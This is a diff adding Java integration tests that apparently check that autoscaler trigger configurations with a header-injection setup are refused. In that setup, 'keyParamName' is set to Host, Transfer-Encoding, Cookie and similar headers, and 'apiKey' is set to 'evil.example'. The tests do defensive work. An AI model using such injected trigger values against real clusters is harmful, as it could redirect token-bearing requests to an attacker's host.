@@ -399,6 +399,68 @@ class TokenAttackIT {
         it.cluster.admin().resource(yaml).delete();
     }
 
+    /** An ingress sends what names another host there, with the token that stands beside it. */
+    @ParameterizedTest
+    @ValueSource(
+        strings = {
+            "Host",
+            "host",
+            "X-Forwarded-Host",
+            "Forwarded",
+            "X-Original-URL",
+            "Transfer-Encoding",
+            "Content-Length",
+            "Connection",
+            "Cookie",
+            "Sudo",
+        }
+    )
+    void aTriggerAddsNoHeaderThatDirectsARequest(String header) {
+        it.put("editor", "headers")
+            .expectStatus()
+            .value(s -> assertThat(s).isIn(200, 201));
+        String asked = it.forge.url() + "/api/v1/admin/actions/jobs?status=queued&marker=header-" + header;
+        String metadata =
+            "url: '" +
+            asked +
+            "', valueLocation: total_count, targetValue: '1', authModes: 'apiKey,bearer', keyParamName: " +
+            header +
+            ", apiKey: evil.example";
+        JsonNode report = it.probe(
+            "editor",
+            "headers",
+            "{\"trigger\":\"{type: metrics-api, metadata: {" +
+                metadata +
+                "}, authenticationRef: {name: " +
+                "headers-act-runner-controller-trigger-auth}}\"}"
+        );
+        assertThat(report.at("/readings/0/checks").toString()).contains("trigger.not-evaluated", header);
+        assertThat(it.forge.requests()).noneMatch(r -> r.contains("marker=header-" + header));
+    }
+
+    /** The console's own account evaluates the triggers of ScaledObjects as well. */
+    @Test
+    void aTriggerOfAScaledObjectAddsNoHeaderThatDirectsARequest() {
+        it.put("editor", "directed").expectStatus().isCreated();
+        String yaml = Serialization.asYaml(
+            ScaledResourceManifest.of("team-a", it.forge.url(), "directed-act-runner-controller-trigger-auth").build()
+        )
+            .replace("limit=1", "limit=1&marker=directed")
+            .replaceFirst(
+                "authMode: \"?bearer\"?",
+                "authModes: apiKey,bearer\n      apiKey: evil.example\n      keyParamName: Host"
+            );
+        assertThat(yaml).contains("keyParamName", "marker=directed");
+        try (var writer = it.clusterAs("writer")) {
+            writer.resource(yaml).create();
+        }
+        await()
+            .atMost(Duration.ofSeconds(30))
+            .until(() -> findings(it.probe("admin", "directed")).contains("trigger.not-evaluated"));
+        assertThat(it.forge.requests()).noneMatch(r -> r.contains("marker=directed"));
+        it.cluster.admin().resource(yaml).delete();
+    }
+
     @Test
     void aProbeReadsNoNumberOfWhatIsNoForge() {
         try (var other = new TokenTrap()) {
